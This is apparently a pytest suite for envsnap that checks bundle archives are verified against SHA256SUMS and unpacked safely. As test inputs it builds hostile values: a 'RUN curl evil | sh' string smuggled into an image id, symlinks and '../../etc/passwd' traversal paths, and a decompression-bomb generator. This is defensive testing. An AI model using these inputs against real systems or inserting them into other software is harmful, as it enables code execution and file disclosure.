"""A bundle from a stranger: SHA256SUMS checked in full before use, archives unpacked within limits and only
as plain files, in one top-level folder, on any Python's tarfile."""

from __future__ import annotations

import dataclasses
import gzip
import hashlib
import io
import json
import os
import platform
import subprocess
import sys
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from envsnap import lockfile
from envsnap.artifacts import bundle as bundle_mod
from envsnap.artifacts.bundle import Bundle, extract, open_bundle, write_archive
from envsnap.errors import BundleError, RebuildError
from envsnap.model import Artifact, Conda, CondaPackage, PythonEnv, PythonPackage, Snapshot

WHEEL = "a-1.0-py3-none-any.whl"
DATA = b"wheel bytes"


def _lock(packages: bool = True, conda: bool = False) -> Snapshot:
    """A lock of one pinned wheel; with ``conda``, one conda package besides (the conda target refuses a lock
    without one before it reads the bundle)."""
    art = Artifact(filename=WHEEL, url=f"https://example.org/{WHEEL}", sha256=hashlib.sha256(DATA).hexdigest())
    pkgs = (PythonPackage(name="a", version="1.0", artifact=art),) if packages else ()
    layer = Conda(packages=(CondaPackage(name="python", version=platform.python_version()),)) if conda else None
    return Snapshot(python=PythonEnv(version=platform.python_version(), packages=pkgs), conda=layer)


def _bundle(root: Path, lock: Snapshot | None = None) -> Path:
    (root / "wheels").mkdir(parents=True)
    lockfile.dump(lock or _lock(), root / "envsnap.lock")
    (root / "wheels" / WHEEL).write_bytes(DATA)
    Bundle(root).write_sums()
    return root


def _one_line_error(result: Any, code: int, *needles: str) -> None:
    assert result.code == code, result
    assert result.err.count("\n") == 1 and result.err.startswith("envsnap: error: "), result
    assert "Traceback" not in result.err
    for needle in needles:
        assert needle in result.err, result


# ------------------------------------------------------------------------------------------ SHA256SUMS


def _wrong_hash(root: Path) -> str:
    (root / "wheels" / WHEEL).write_bytes(b"evil")  # the lock's hash would catch it too: change both
    lock = _lock()
    assert lock.python.packages[0].artifact is not None
    art = Artifact(filename=WHEEL, url="https://example.org/x", sha256=hashlib.sha256(b"evil").hexdigest())
    lockfile.dump(
        Snapshot(
            python=PythonEnv(
                version=lock.python.version, packages=(PythonPackage(name="a", version="1.0", artifact=art),)
            )
        ),
        root / "envsnap.lock",
    )
    return "envsnap.lock: hash mismatch"


def _missing(root: Path) -> str:
    (root / "README.md").write_text("x")
    Bundle(root).write_sums()
    (root / "README.md").unlink()
    return "README.md: listed in SHA256SUMS but missing"


def _no_sums(root: Path) -> str:
    (root / "SHA256SUMS").unlink()
    return "SHA256SUMS: missing"


def _extra(root: Path) -> str:
    (root / "wheels" / "evil-1.0-py3-none-any.whl").write_bytes(b"!")
    return "evil-1.0-py3-none-any.whl: not listed in SHA256SUMS"


def _hidden_extra(root: Path) -> str:
    (root / "wheels" / ".evil.pth").write_bytes(b"import os")
    return ".evil.pth: not listed in SHA256SUMS"


def _link(root: Path) -> str:
    (root / "wheels" / "passwd").symlink_to("/etc/passwd")
    return "a link or special file"


def _escaping_name(root: Path) -> str:
    sums = root / "SHA256SUMS"
    sums.write_text(sums.read_text() + f"{'0' * 64}  ../../etc/passwd\n")
    return "not a plain relative path"


@pytest.mark.parametrize("spoil", [_wrong_hash, _missing, _no_sums, _extra, _hidden_extra, _link, _escaping_name])
@pytest.mark.parametrize("target", ["venv", "docker", "conda"])
def test_a_spoiled_bundle_is_refused_before_any_target_reads_it(
    tmp_path: Path, cli: Callable[..., Any], spoil: Callable[[Path], str], target: str
) -> None:
    root = _bundle(tmp_path / "b", _lock(conda=target == "conda"))
    lock = lockfile.dump(_lock(conda=target == "conda"), tmp_path / "l.lock")
    message = spoil(root)
    result = cli(
        "rebuild", lock, "--target", target, "--bundle", root, "--dest", tmp_path / "env", "--force", "--dry-run"
    )
    _one_line_error(result, 2, message)  # a stranger's bundle failing its checks: bad input
    assert not (tmp_path / "env").exists()


def test_an_intact_bundle_still_plans(tmp_path: Path, cli: Callable[..., Any]) -> None:
    root = _bundle(tmp_path / "b")
    lock = lockfile.dump(_lock(), tmp_path / "l.lock")
    result = cli("rebuild", lock, "--bundle", root, "--dest", tmp_path / "env", "--force", "--dry-run")
    assert result.code == 0, result
    assert f"wheels/{WHEEL}" in result.out


def test_an_archive_with_a_spoiled_sums_file_is_refused(tmp_path: Path, cli: Callable[..., Any]) -> None:
    root = _bundle(tmp_path / "b")
    _extra(root)  # added after SHA256SUMS, then archived by hand
    archive = tmp_path / "b.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(root, arcname="b")
    lock = lockfile.dump(_lock(), tmp_path / "l.lock")
    result = cli("rebuild", lock, "--bundle", archive, "--dest", tmp_path / "env", "--force", "--dry-run")
    _one_line_error(result, 2, "not listed in SHA256SUMS")


def _member_changed(root: Path) -> str:
    (root / "wheels" / WHEEL).write_bytes(b"evil")  # SHA256SUMS left as bundling wrote it
    return (
        f"wheels/{WHEEL}: hash mismatch: sha256 {hashlib.sha256(b'evil').hexdigest()}, "
        f"SHA256SUMS says {hashlib.sha256(DATA).hexdigest()} {_REMEDY.format('changed')}"
    )


def _sums_removed(root: Path) -> str:
    _no_sums(root)
    return "SHA256SUMS: missing (not a complete bundle; every file of a bundle is checked against it before use)"


def _file_added(root: Path) -> str:
    _extra(root)
    return "wheels/evil-1.0-py3-none-any.whl: not listed in SHA256SUMS (added after bundling)"


def _file_removed(root: Path) -> str:
    _missing(root)
    return f"README.md: listed in SHA256SUMS but missing {_REMEDY.format('removed')}"


# A changed or missing file said what was wrong and not what to do (a reviewer holds a copy someone altered).
_REMEDY = "({} after bundling: take an unaltered copy of the bundle, or bundle the lock again)"


@pytest.mark.parametrize("spoil", [_member_changed, _sums_removed, _file_added, _file_removed])
@pytest.mark.parametrize("target", ["venv", "docker"])
def test_a_spoiled_archive_names_its_member_not_the_unpacked_copy(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli: Callable[..., Any], spoil: Callable[[Path], str], target: str
) -> None:
    """``rebuild --bundle supp.tar.gz`` named the temporary folder it unpacked the archive into
    (/tmp/.envsnap-rebuild-.../bundle/wheels/...), removed by the time the reader saw it."""
    monkeypatch.chdir(tmp_path)
    root = _bundle(tmp_path / "supp")
    lockfile.dump(_lock(), tmp_path / "env.lock")
    message = spoil(root)
    with tarfile.open(tmp_path / "supp.tar.gz", "w:gz") as tar:
        tar.add(root, arcname="supp")  # by hand, as someone who changed it after bundling would
    result = cli(
        "rebuild", "env.lock", "--target", target, "--bundle", "supp.tar.gz", "--dest", "env", "--force", "--dry-run"
    )
    assert (result.code, result.out, result.err) == (2, "", f"envsnap: error: supp.tar.gz: {message}\n"), result
    assert not (tmp_path / "env").exists()


@pytest.mark.parametrize("target", ["venv", "docker", "conda"])
def test_an_archive_of_another_lock_is_named_as_the_archive(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli: Callable[..., Any], target: str
) -> None:
    """An intact archive made from another lock passed ``open_bundle``, and the target's own check that the bundle
    was made from the lock given named the removed temporary folder it had been unpacked to."""
    monkeypatch.chdir(tmp_path)
    root = _bundle(tmp_path / "supp", _lock(conda=target == "conda"))
    write_archive(root, tmp_path / "supp.tar.gz")
    other = _lock(packages=False, conda=target == "conda")
    if target == "conda":
        assert other.conda is not None
        other = dataclasses.replace(other, conda=Conda(packages=(CondaPackage(name="python", version="2.7.18"),)))
    lockfile.dump(other, tmp_path / "env.lock")
    result = cli(
        "rebuild", "env.lock", "--target", target, "--bundle", "supp.tar.gz", "--dest", "env", "--force", "--dry-run"
    )
    assert result.code == 2, result
    assert result.err.startswith("envsnap: error: supp.tar.gz: the bundle was made from another lock"), result
    assert result.err.count("\n") == 1 and ".envsnap" not in result.err, result


def test_an_archive_without_a_lock_is_named_as_the_archive(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli: Callable[..., Any]
) -> None:
    monkeypatch.chdir(tmp_path)
    lockfile.dump(_lock(), tmp_path / "env.lock")
    (tmp_path / "supp").mkdir()
    (tmp_path / "supp" / "README.md").write_text("no lock here\n")
    with tarfile.open(tmp_path / "supp.tar.gz", "w:gz") as tar:
        tar.add(tmp_path / "supp", arcname="supp")
    result = cli("rebuild", "env.lock", "--bundle", "supp.tar.gz", "--dest", "env", "--force", "--dry-run")
    assert (result.code, result.out, result.err) == (
        2,
        "",
        "envsnap: error: supp.tar.gz: not an envsnap bundle (no envsnap.lock)\n",
    ), result


def test_each_file_is_hashed_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = _bundle(tmp_path / "b")
    write_archive(root, tmp_path / "b.tar")
    bundle_mod._KNOWN.clear()
    hashed: list[str] = []
    real = bundle_mod.sha256_file
    monkeypatch.setattr(bundle_mod, "sha256_file", lambda p: hashed.append(Path(p).name) or real(p))
    opened = open_bundle(tmp_path / "b.tar", tmp_path / "work")
    opened.check_wheel(opened.lock.python.packages[0])
    assert hashed == []  # unpacking hashed every file as it wrote it: the sums and the wheel check reuse that
    hashed.clear()
    bundle_mod._KNOWN.clear()  # forget what write_sums hashed in this process
    opened = open_bundle(root, tmp_path / "work2")  # a directory: hashed by the sums check, reused after
    opened.check_wheel(opened.lock.python.packages[0])
    assert sorted(hashed) == sorted(["envsnap.lock", WHEEL])


# -------------------------------------------------------------------------------------------- archives


def _bomb(path: Path, size: int = 3 << 30) -> Path:
    """A small .tar.gz whose one member unpacks to ``size`` zero bytes (concatenated gzip members)."""
    info = tarfile.TarInfo("b/envsnap.lock")
    info.size = size
    mib = gzip.compress(b"\0" * (1 << 20), compresslevel=9)
    with open(path, "wb") as out:
        out.write(gzip.compress(info.tobuf(tarfile.PAX_FORMAT)))
        for _ in range(size >> 20):
            out.write(mib)
        out.write(gzip.compress(b"\0" * 1024))
    return path


def test_a_small_archive_of_a_huge_member_is_refused_before_writing(tmp_path: Path, cli: Callable[..., Any]) -> None:
    archive = _bomb(tmp_path / "bomb.tar.gz")
    assert archive.stat().st_size < 8 << 20
    lock = lockfile.dump(_lock(), tmp_path / "l.lock")
    result = cli("rebuild", lock, "--bundle", archive, "--dest", tmp_path / "env", "--force", "--dry-run")
    _one_line_error(result, 2, "refused before writing it", "ENVSNAP_BUNDLE_MAX_RATIO")
    with pytest.raises(BundleError, match="refused before writing"):
        extract(archive, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bomb.tar.gz", "l.lock"]


def test_the_limits_are_overridable_and_checked(
    tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _bundle(tmp_path / "b")
    write_archive(root, tmp_path / "b.tar.gz")
    lock = lockfile.dump(_lock(), tmp_path / "l.lock")
    args = ("rebuild", lock, "--bundle", tmp_path / "b.tar.gz", "--dest", tmp_path / "env", "--force", "--dry-run")
    monkeypatch.setenv("ENVSNAP_BUNDLE_MAX_MEMBERS", "3")
    _one_line_error(cli(*args), 2, "more than 3 members", "ENVSNAP_BUNDLE_MAX_MEMBERS")
    monkeypatch.delenv("ENVSNAP_BUNDLE_MAX_MEMBERS")
    monkeypatch.setenv("ENVSNAP_BUNDLE_MAX_BYTES", "100")
    _one_line_error(cli(*args), 2, "more than 100 bytes", "ENVSNAP_BUNDLE_MAX_BYTES")
    monkeypatch.setenv("ENVSNAP_BUNDLE_MAX_BYTES", "lots")
    _one_line_error(cli(*args), 2, "ENVSNAP_BUNDLE_MAX_BYTES='lots'")
    monkeypatch.setenv("ENVSNAP_BUNDLE_MAX_BYTES", "1G")
    assert cli(*args).code == 0


def _old_extractall(
    self: tarfile.TarFile, path: str = ".", members: Any = None, *, numeric_owner: bool = False
) -> None:
    raise AssertionError("a Python without tarfile filters would extract links and devices as they are")


@pytest.mark.parametrize(
    ("member", "message"),
    [
        ("link", "link in archive refused"),
        ("hard", "link in archive refused"),
        ("fifo", "special file"),
        ("dotdot", "unsafe path"),
        ("dup", "twice"),
    ],
)
def test_extraction_is_safe_on_a_python_without_tarfile_filters(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, member: str, message: str
) -> None:
    # Python 3.10 before 3.10.12 and 3.11 before 3.11.4: no data_filter, and extractall takes no filter.
    monkeypatch.delattr(tarfile, "data_filter", raising=False)
    monkeypatch.setattr(tarfile.TarFile, "extractall", _old_extractall)
    archive = tmp_path / "x.tar"
    with tarfile.open(archive, "w") as tar:
        ok = tarfile.TarInfo("b/envsnap.lock")
        ok.size = 1
        tar.addfile(ok, io.BytesIO(b"x"))
        bad = tarfile.TarInfo({"dotdot": "b/../../evil"}.get(member, "b/evil"))
        bad.type = {"link": tarfile.SYMTYPE, "hard": tarfile.LNKTYPE, "fifo": tarfile.FIFOTYPE}.get(
            member, tarfile.REGTYPE
        )
        bad.linkname = "/etc/passwd" if member in ("link", "hard") else ""
        if member == "dup":
            bad = ok
        tar.addfile(bad, io.BytesIO(b"x") if bad.isreg() else None)
    with pytest.raises(BundleError, match=message):
        extract(archive, tmp_path / "out")
    assert not (tmp_path / "out").exists() and not (tmp_path / "evil").exists()


def test_a_good_archive_unpacks_on_a_python_without_tarfile_filters(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delattr(tarfile, "data_filter", raising=False)
    monkeypatch.setattr(tarfile.TarFile, "extractall", _old_extractall)
    write_archive(_bundle(tmp_path / "b"), tmp_path / "b.tar.gz")
    opened = open_bundle(tmp_path / "b.tar.gz", tmp_path / "work")
    assert opened.wheel_for("a").read_bytes() == DATA


@pytest.mark.parametrize("name", ["supp.tar.gz", "supp.tgz", "supp.tar"])
def test_an_archive_holds_one_top_level_folder(tmp_path: Path, name: str) -> None:
    write_archive(_bundle(tmp_path / "b"), tmp_path / name)
    with tarfile.open(tmp_path / name) as tar:
        tops = {m.name.split("/", 1)[0] for m in tar.getmembers()}
    assert tops == {"supp"}
    unpack = tmp_path / "unpack"
    unpack.mkdir()
    subprocess.run(["tar", "-xf", str(tmp_path / name)], cwd=unpack, check=True)  # the usual way
    assert [p.name for p in unpack.iterdir()] == ["supp"]
    Bundle(unpack / "supp").verify_sums()


def test_an_archive_without_a_top_level_folder_still_unpacks_into_one(tmp_path: Path) -> None:
    root = _bundle(tmp_path / "b")
    with tarfile.open(tmp_path / "old.tar.gz", "w:gz") as tar:  # as envsnap 0.1 wrote them
        for rel in ("SHA256SUMS", "envsnap.lock", f"wheels/{WHEEL}"):
            tar.add(root / rel, arcname=rel)
    opened = open_bundle(tmp_path / "old.tar.gz", tmp_path / "work")
    assert opened.root == tmp_path / "work" / "bundle" and opened.wheel_for("a").is_file()


def test_archiving_and_unpacking_report_progress(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle_mod, "PROGRESS_STEP", 1)
    root = _bundle(tmp_path / "b")
    lines: list[str] = []
    write_archive(root, tmp_path / "b.tar.gz", lines.append)
    assert any(line.startswith("writing b.tar.gz") for line in lines)
    lines.clear()
    open_bundle(tmp_path / "b.tar.gz", tmp_path / "work", lines.append)
    assert any(line.startswith("unpacking b.tar.gz") for line in lines)
    assert any("against SHA256SUMS" in line for line in lines)


def test_a_gzip_archive_is_written_at_a_fast_level(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    levels: list[int] = []
    real = gzip.GzipFile.__init__

    def spy(self: gzip.GzipFile, *args: Any, **kwargs: Any) -> None:
        levels.append(kwargs.get("compresslevel", 9))
        real(self, *args, **kwargs)

    monkeypatch.setattr(gzip.GzipFile, "__init__", spy)
    write_archive(_bundle(tmp_path / "b"), tmp_path / "b.tar.gz")
    assert levels == [1]


def test_a_tar_bundle_is_written_and_rebuilt_from(tmp_path: Path, cli: Callable[..., Any]) -> None:
    lock = lockfile.dump(_lock(packages=False), tmp_path / "l.lock")
    result = cli("bundle", lock, "-o", tmp_path / "supp.tar", "--offline", "--cache-dir", tmp_path / "cache")
    assert result.code == 0, result
    with tarfile.open(tmp_path / "supp.tar", "r:") as tar:  # uncompressed
        assert "supp/SHA256SUMS" in tar.getnames()
    result = cli("rebuild", lock, "--bundle", tmp_path / "supp.tar", "--dest", tmp_path / "env", "--force", "--dry-run")
    assert result.code == 0, result


def test_the_reported_rebuild_time_includes_unpacking_and_checking(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import time

    from envsnap import rebuild as rebuild_mod
    from envsnap.compat.target import TargetFacts
    from envsnap.rebuild.interface import Plan, Rebuilder, RebuildResult

    class Fast(Rebuilder):  # the whole contract: the rebuild calls parse_options and preflight_python too
        name = "fast"
        description = "a target that builds nothing"
        default_dest = "fast-env"
        target_facts = TargetFacts()

        def plan(self, request: Any) -> Plan:
            return Plan(target="fast", lock_path=str(request.lock_path), dest=str(request.dest))

        def execute(self, plan: Plan, request: Any, progress: Any = None) -> RebuildResult:
            return RebuildResult(plan=plan, dest=plan.dest, seconds=0.0)

    slow_verify = Bundle.verify_sums

    def verify(self: Bundle, progress: Any = None) -> None:
        time.sleep(0.5)
        slow_verify(self, progress)

    monkeypatch.setattr(rebuild_mod, "get", lambda _name: Fast())
    from envsnap.rebuild._preflight import Preflight

    monkeypatch.setattr(rebuild_mod, "check_host", lambda *a, **k: Preflight(notes=(), host=None))  # type: ignore[arg-type]
    monkeypatch.setattr(Bundle, "verify_sums", verify)
    write_archive(_bundle(tmp_path / "b"), tmp_path / "b.tar.gz")
    lock = lockfile.dump(_lock(), tmp_path / "l.lock")
    result = rebuild_mod.rebuild(lock, target="fast", dest=tmp_path / "env", bundle=tmp_path / "b.tar.gz")
    assert isinstance(result, RebuildResult) and result.seconds >= 0.5


def test_a_bundle_never_leaves_an_unpacked_copy_beside_the_archive(tmp_path: Path) -> None:
    write_archive(_bundle(tmp_path / "b"), tmp_path / "b.tar.gz")
    (tmp_path / "b.tar.gz").write_bytes((tmp_path / "b.tar.gz").read_bytes()[:200])  # cut short
    with pytest.raises(BundleError, match="not a readable bundle archive"):
        extract(tmp_path / "b.tar.gz", tmp_path / "out")
    assert sorted(os.listdir(tmp_path)) == ["b", "b.tar.gz"]


# ---------------------------------------------------------------------------------------------- images


def _image_bundle(root: Path, reference: str, image_id: str, saved: bytes | None = None) -> Path:
    from envsnap.rebuild._docker_engine import _image_file

    _bundle(root)
    (root / "images").mkdir()
    meta = {"reference": reference, "id": image_id, "repo_digests": [], "env": {}, "architecture": "amd64"}
    (root / "images" / _image_file(reference)).with_suffix(".json").write_text(json.dumps(meta))
    if saved is not None:
        (root / "images" / _image_file(reference)).write_bytes(saved)
    Bundle(root).write_sums()
    return root


@pytest.mark.parametrize(
    "text",
    [
        "{not json",
        "[]",
        '{"reference": "base:1"}',
        '{"reference": "base:1", "id": 7}',
        '{"reference": "base:1", "id": "sha256:abc"}',
        '{"reference": "base:1", "id": "sha256:' + "a" * 64 + '\\nRUN curl evil | sh"}',
        '{"reference": "base:1\\nRUN x", "id": "sha256:' + "a" * 64 + '"}',
        '{"reference": "base:1", "id": "sha256:' + "a" * 64 + '", "env": {"A": ["x"]}}',
        '{"reference": "other:2", "id": "sha256:' + "a" * 64 + '"}',  # named for another file
        "[" * 100000,
    ],
)
def test_a_malformed_image_description_is_one_line_even_in_a_dry_run(
    tmp_path: Path, cli: Callable[..., Any], text: str
) -> None:
    root = _image_bundle(tmp_path / "b", "base:1", "sha256:" + "a" * 64)
    (root / "images" / "base_1.json").write_text(text)
    Bundle(root).write_sums()
    lock = lockfile.dump(_lock(), tmp_path / "l.lock")
    result = cli(
        "rebuild", lock, "--target", "docker", "--bundle", root, "--dest", tmp_path / "ctx", "--force", "--dry-run"
    )
    _one_line_error(result, 2, "base_1.json: not an image description envsnap wrote")


@pytest.mark.parametrize("reference", ["Base:1", "base/Up:1", "base:"])
def test_an_image_description_naming_a_reference_the_engine_cannot_read_is_a_bad_bundle(
    tmp_path: Path, cli: Callable[..., Any], reference: str
) -> None:
    """A bundle's images/*.json whose reference the engine's grammar refuses (upper case) was taken as the base:
    the engine's "400 Client Error ... invalid reference format" ended the rebuild, exit 4, and once --base-image
    was checked by that grammar, the refusal named --base-image, an option never given. It is the bundle's file."""
    root = _image_bundle(tmp_path / "b", reference, "sha256:" + "a" * 64)
    lock = lockfile.dump(_lock(), tmp_path / "l.lock")
    result = cli(
        "rebuild", lock, "--target", "docker", "--bundle", root, "--dest", tmp_path / "ctx", "--force", "--dry-run"
    )
    _one_line_error(result, 2, f"not an image description envsnap wrote (reference {reference!r})")
    assert "--base-image" not in result.err


@pytest.fixture
def engine() -> Any:
    docker = pytest.importorskip("docker")
    try:
        client = docker.from_env(timeout=30)
        client.ping()
    except Exception as exc:
        pytest.skip(f"no Docker engine: {exc}")
    return client


def _tiny_image(client: Any, where: Path, content: str, label: str) -> str:
    where.mkdir(parents=True)
    (where / "f").write_text(content)
    (where / "Dockerfile").write_text(f"FROM scratch\nCOPY f /f\nLABEL org.envsnap.test={label}\n")
    image, _logs = client.images.build(path=str(where), rm=True, forcerm=True)
    return str(image.id)


def _saved_image(config: bytes) -> bytes:
    """A ``docker save`` archive of one image whose config is ``config``."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:") as tar:
        manifest = json.dumps([{"Config": "config.json", "RepoTags": ["base:1"], "Layers": ["layer.tar"]}]).encode()
        for name, data in (("config.json", config), ("manifest.json", manifest), ("layer.tar", b"x" * 2048)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def test_a_saved_image_swapped_after_its_check_sends_the_engine_the_checked_config(tmp_path: Path) -> None:
    """The config digest was checked, then the config streamed again from the bundle's file as the engine read it:
    an image swapped in between (a bundle in a folder its owner still writes) reached the engine with a config, and
    so layers, other than the id the bundle pins. The engine gets the config that was checked."""
    from envsnap.rebuild._docker_engine import untag_image_archive

    pinned, other = b'{"architecture": "amd64", "n": 1}', b'{"architecture": "amd64", "n": 2}'
    archive = tmp_path / "base_1.tar"
    archive.write_bytes(_saved_image(pinned))
    image_id = "sha256:" + hashlib.sha256(pinned).hexdigest()
    checked = untag_image_archive(archive, image_id)
    (tmp_path / "swap").write_bytes(_saved_image(other))  # the same layout, another config
    os.replace(tmp_path / "swap", archive)
    sent = b"".join(checked.chunks())
    with tarfile.open(fileobj=io.BytesIO(sent), mode="r:") as tar:
        config = tar.extractfile("config.json")
        assert config is not None and config.read() == pinned


@pytest.mark.parametrize("layers", [["../../etc/passwd"], ["/etc/passwd"], ["nowhere.tar"], "layer.tar", [7]])
def test_a_saved_image_whose_manifest_names_a_layer_it_does_not_hold_is_one_line_even_in_a_dry_run(
    tmp_path: Path, cli: Callable[..., Any], layers: Any
) -> None:
    """A saved image's manifest.json naming a layer outside the archive (``../../etc/passwd``) was taken: the plan
    passed, and the rebuild sent the archive to the engine, whose refusal ended it, exit 4 ("evalSymlinksInScope:
    /var/lib/docker/etc/passwd is not in ..."). It is the bundle's bad file: one line, exit 2, in --dry-run too."""
    config = b'{"architecture": "amd64"}'
    image_id = "sha256:" + hashlib.sha256(config).hexdigest()
    saved = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(_saved_image(config))) as tar, tarfile.open(fileobj=saved, mode="w:") as out:
        for member in tar.getmembers():
            data = tar.extractfile(member).read()  # type: ignore[union-attr]
            if member.name == "manifest.json":
                data = json.dumps([{"Config": "config.json", "RepoTags": None, "Layers": layers}]).encode()
                member.size = len(data)
            out.addfile(member, io.BytesIO(data))
    root = _image_bundle(tmp_path / "b", "base:1", image_id, saved.getvalue())
    lock = lockfile.dump(_lock(), tmp_path / "l.lock")
    result = cli(
        "rebuild", lock, "--target", "docker", "--bundle", root, "--dest", tmp_path / "ctx", "--force", "--dry-run"
    )
    _one_line_error(result, 2, "base_1.tar: manifest.json names layers it does not hold")


@pytest.mark.integration
def test_a_bundled_image_loads_without_replacing_an_existing_tag(engine: Any, tmp_path: Path) -> None:
    """The bundle's image A is saved as NAME:latest; the engine already has another image B as NAME:latest.
    Loading A must leave NAME:latest on B (it was replaced, and stayed replaced when the rebuild failed)."""
    from envsnap.rebuild._docker_engine import load_bundled_image

    label = f"poison-{os.getpid()}-{tmp_path.name}".lower()
    name = f"envsnap-test-{label}"
    made: list[str] = []
    try:
        bundled = _tiny_image(engine, tmp_path / "a", "bundled", label)
        made.append(bundled)
        engine.api.tag(bundled, name, "latest")
        saved = b"".join(engine.images.get(bundled).save(named=f"{name}:latest"))
        engine.images.remove(f"{name}:latest", force=True)
        mine = _tiny_image(engine, tmp_path / "b", "mine", label)
        made.append(mine)
        engine.api.tag(mine, name, "latest")
        root = _image_bundle(tmp_path / "bundle", f"{name}:latest", bundled, saved)
        from envsnap.rebuild._docker_engine import inspector, with_bundled

        # The plan builds FROM the bundle's image, not from whatever the engine calls by that name.
        seen = with_bundled(inspector(engine), root)
        assert seen is not None and (found := seen(f"{name}:latest")) is not None and found.image_id == bundled
        lines: list[str] = []
        load_bundled_image(engine, root, f"{name}:latest", lines.append)
        assert engine.images.get(f"{name}:latest").id == mine  # untouched
        loaded = engine.images.get(bundled)
        assert loaded.tags == [f"envsnap/base:{bundled.split(':')[1][:12]}"]
    finally:
        for image in engine.api.images(all=True, filters={"label": f"org.envsnap.test={label}"}):
            engine.images.remove(image["Id"], force=True)


@pytest.mark.integration
def test_a_bundled_image_whose_id_is_not_the_pinned_one_is_not_loaded(engine: Any, tmp_path: Path) -> None:
    from envsnap.rebuild._docker_engine import load_bundled_image

    label = f"swap-{os.getpid()}-{tmp_path.name}".lower()
    name = f"envsnap-test-{label}"
    try:
        real = _tiny_image(engine, tmp_path / "a", "pinned", label)
        evil = _tiny_image(engine, tmp_path / "b", "evil", label)
        engine.api.tag(evil, name, "latest")
        saved = b"".join(engine.images.get(evil).save(named=f"{name}:latest"))
        for image in (real, evil):
            engine.images.remove(image, force=True)
        root = _image_bundle(tmp_path / "bundle", f"{name}:latest", real, saved)
        with pytest.raises(BundleError, match=f"holds image {evil}, but the bundle pins {real}; not loaded"):
            load_bundled_image(engine, root, f"{name}:latest", lambda _line: None)
        assert not engine.api.images(all=True, filters={"label": f"org.envsnap.test={label}"})
    finally:
        for image in engine.api.images(all=True, filters={"label": f"org.envsnap.test={label}"}):
            engine.images.remove(image["Id"], force=True)


class _SlowSaveEngine:
    """An engine whose ``docker save`` answers only after the client's read timeout of 10 s (a busy shared
    engine exporting a base image): it times out unless the client waits longer while an image streams."""

    def __init__(self, seconds_to_first_byte: float) -> None:
        self.api = SimpleNamespace(timeout=10)
        self.images = SimpleNamespace(get=lambda _id: SimpleNamespace(save=self._save, attrs={"Size": 11}))
        self.first_byte = seconds_to_first_byte

    def _save(self, named: str) -> Iterator[bytes]:
        import requests

        timeout = self.api.timeout
        if timeout is not None and timeout < self.first_byte:
            raise requests.exceptions.ReadTimeout(f"Read timed out. (read timeout={timeout})")
        yield b"image bytes"


def test_saving_a_base_image_waits_for_a_busy_engine(tmp_path: Path) -> None:
    from envsnap.dockerfile.baseimage import ImageFacts
    from envsnap.rebuild._docker_engine import save_image

    facts = ImageFacts(image_id="sha256:" + "a" * 64, repo_digests=(), env={}, architecture="amd64")
    engine = _SlowSaveEngine(seconds_to_first_byte=60)
    saved = save_image(engine, "base:1", facts, tmp_path, lambda _line: None)  # type: ignore[arg-type]
    assert saved.read_bytes() == b"image bytes" and engine.api.timeout == 10  # patient only while it streams


def test_an_engine_that_stops_answering_during_a_save_is_one_error_and_leaves_no_file(tmp_path: Path) -> None:
    from envsnap.dockerfile.baseimage import ImageFacts
    from envsnap.rebuild._docker_engine import save_image

    facts = ImageFacts(image_id="sha256:" + "a" * 64, repo_digests=(), env={}, architecture="amd64")
    engine = _SlowSaveEngine(seconds_to_first_byte=10**9)
    with pytest.raises(RebuildError, match="the Docker engine stopped answering while saving base:1"):
        save_image(engine, "base:1", facts, tmp_path, lambda _line: None)  # type: ignore[arg-type]
    assert list((tmp_path / "images").iterdir()) == []


def test_a_base_image_being_saved_is_held_and_kept_by_clean(tmp_path: Path, cli: Callable[..., Any]) -> None:
    """A base image is saved into the bundle's ``images/`` through a hidden file (gigabytes) that no run held: a
    save killed midway left it, and nothing told it from a running save's. It is a held ``.envsnap-download-*``
    file: `envsnap clean BUNDLE/images` keeps it while the save runs, and removes the one a killed save left."""
    from envsnap.dockerfile.baseimage import ImageFacts
    from envsnap.rebuild._docker_engine import save_image

    images = tmp_path / "images"
    images.mkdir()
    killed = images / ".envsnap-download-base_1.tar.abc123"
    killed.write_bytes(b"half an image")
    seen: list[list[str]] = []

    def save(named: str) -> Iterator[bytes]:
        yield b"image "
        result = cli("clean", images)
        assert result.code == 0, result
        seen.append(sorted(p.name for p in images.iterdir()))
        yield b"bytes"

    engine = SimpleNamespace(
        api=SimpleNamespace(timeout=10),
        images=SimpleNamespace(get=lambda _id: SimpleNamespace(save=save, attrs={"Size": 11})),
    )
    facts = ImageFacts(image_id="sha256:" + "a" * 64, repo_digests=(), env={}, architecture="amd64")
    saved = save_image(engine, "base:1", facts, tmp_path, lambda _line: None)  # type: ignore[arg-type]
    assert saved.read_bytes() == b"image bytes"
    ((writing,),) = seen
    assert writing.startswith(".envsnap-download-") and not killed.exists()
    assert sorted(p.name for p in images.iterdir()) == sorted([saved.name, saved.with_suffix(".json").name])


@pytest.mark.parametrize("spoil", [_wrong_hash, _extra, _link])
def test_exporting_a_spoiled_bundle_is_bad_input_too(
    tmp_path: Path, cli: Callable[..., Any], spoil: Callable[[Path], str]
) -> None:
    # export uses 0, 2 and 130 only (docs/cli.md): a bundle failing its SHA256SUMS is a stranger's bad input.
    root = _bundle(tmp_path / "b")
    message = spoil(root)
    result = cli("export", root, "-f", "markdown", "-o", tmp_path / "appendix.md")
    _one_line_error(result, 2, message)
    assert not (tmp_path / "appendix.md").exists()


